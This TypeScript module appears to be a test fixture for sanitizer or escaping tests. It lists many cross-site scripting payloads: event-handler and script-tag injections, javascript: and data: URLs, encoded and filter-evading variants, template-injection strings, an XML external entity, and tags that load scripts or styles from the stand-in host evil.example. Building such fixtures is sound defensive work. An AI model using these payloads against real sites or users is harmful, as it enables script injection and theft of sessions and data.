/**
 * What would run if it were ever read as markup, an address, a script or a style. Everything in them that runs calls
 * `alert`, or asks a host under `evil.example` for something. All fit where the shortest text does, on one line.
 */

const script = '<script>alert(1)</script>'
const brokenImage = '<img src=x onerror=alert(1)>'

/** Attributes by which an element runs a script by itself, and the elements that have them. */
const eventAttributes: readonly (readonly [attribute: string, elements: string])[] = [
  ['src=x onerror', 'img image video audio input,type=image'],
  ['onload', 'svg body frameset'],
  ['onpageshow', 'body'],
  ['onmouseover', 'html'],
  ['autofocus onfocus', 'input textarea select keygen xss,id=x,tabindex=1 a,href=javascript:alert(1)'],
  ['onstart', 'marquee'],
  ['open ontoggle', 'details'],
  ['style=animation-name:x onanimationstart', 'div'],
]
const running = eventAttributes.flatMap(([attribute, elements]) =>
  elements.split(' ').map((element) => `<${element.replaceAll(',', ' ')} ${attribute}=alert(1)>`),
)

/** Elements that read a script, a page or a picture from the address that one of their attributes has. */
const scriptReaders = [
  ...[
    'iframe src',
    'object data',
    'embed src',
    'applet code',
    'isindex action',
    'svg><set attributeName=href to',
  ],
  ...['form><button formaction', 'math><a xlink:href'],
].map((start) => `<${start}=javascript:alert(1)>x`)
const fetching = [
  ...[
    'img src',
    'video poster',
    'iframe src',
    'portal src',
    'base href',
    'audio autoplay src',
    'a target=_blank href',
  ],
  ...['link rel=stylesheet href', 'link rel=preload as=image href', 'link rel=dns-prefetch href'],
].map((start) => `<${start}=//evil.example/a.png>`)

const elements = String.raw`
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script src=data:text/javascript,alert(1)></script>
<script type=module>alert(1)</script>
<script/x>alert(1)</script/x>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<img src=x onerror="alert(1)"
<img/src=x/onerror=alert(1)//
<img srcset="//evil.example/a.png 1x">
<img src=x:x onerror=&#97;lert(1)>
<img """><script>alert(1)</script>">
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=//evil.example/x.js /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1) />#x" />
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1) />">
<video><source onerror=alert(1)></video>
<button popovertarget=x>x</button><b popover id=x onbeforetoggle=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>
<a href="java&#115;cript:alert(1)">x</a>
<form action=javascript:alert(1)><button>x</button></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv=Content-Security-Policy content="script-src *">
<style>@import "//evil.example/x.css";</style>
<style>*{background:url(//evil.example/a.png)}</style>
<div style="background:url(//evil.example/a.png)">
<template><script>alert(1)</script></template>
<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>`
  .trim()
  .split('\n')

/** Ends of where a text could stand, with what would run behind them. */
const endings = [
  ...['">', "'>", '</title>', '</textarea>', '</script>', ']]>'].map((end) => end + script),
  ...['"/>', '</script x>', '</style>', '</noscript>', '</template></select></option>', '-->', '--!>'].map(
    (end) => end + brokenImage,
  ),
  '" onmouseover=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '` onerror=alert(1) x=`',
  '<!--<script>alert(1)//-->',
  '<!--<script>',
  `<![CDATA[${script}]]>`,
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "//evil.example/x">]>&y;',
]

export const hostileAddresses: readonly string[] = String.raw`
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://evil.example/%0aalert(1)
javascript:alert(1)//https://evil.example
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:alert(1)
blob:https://evil.example/x
//evil.example/x
\\evil.example\x
https://evil.example/"onmouseover="alert(1)
https://evil.example/<script>alert(1)</script>
https://evil.example/'><img src=x onerror=alert(1)>`
  .trim()
  .split('\n')

const scripts = [
  ...['"', "'", '\\"'].map((quote) => `${quote};alert(1);//`),
  // oxlint-disable-next-line no-template-curly-in-string -- what others would fill in
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '[x](javascript:alert(1))',
  '![x](//evil.example/a.png)',
  `{"__html":"${brokenImage}"}`,
  `__proto__[innerHTML]=${brokenImage}`,
  `$&$\`$'$1${brokenImage}`,
  '@import//evil.example/x.css;',
  'expression(alert(1))',
]

/** The same again as some readers would decode it. */
const encoded = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  encodeURIComponent(script),
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u02bascript\u02bc<svg\u2028onload=alert(1)>',
  `\u202e${brokenImage}\u202c`,
  `x\ufeff${script}`,
  '<s\u0363cript>alert(1)</s\u0363cript>',
  `\ud83c\udf29${brokenImage}`,
]

export const markupStrings: readonly string[] = [
  script,
  ...running,
  ...elements,
  ...scriptReaders,
  ...fetching,
  ...endings,
  ...hostileAddresses,
  ...scripts,
  ...encoded,
]
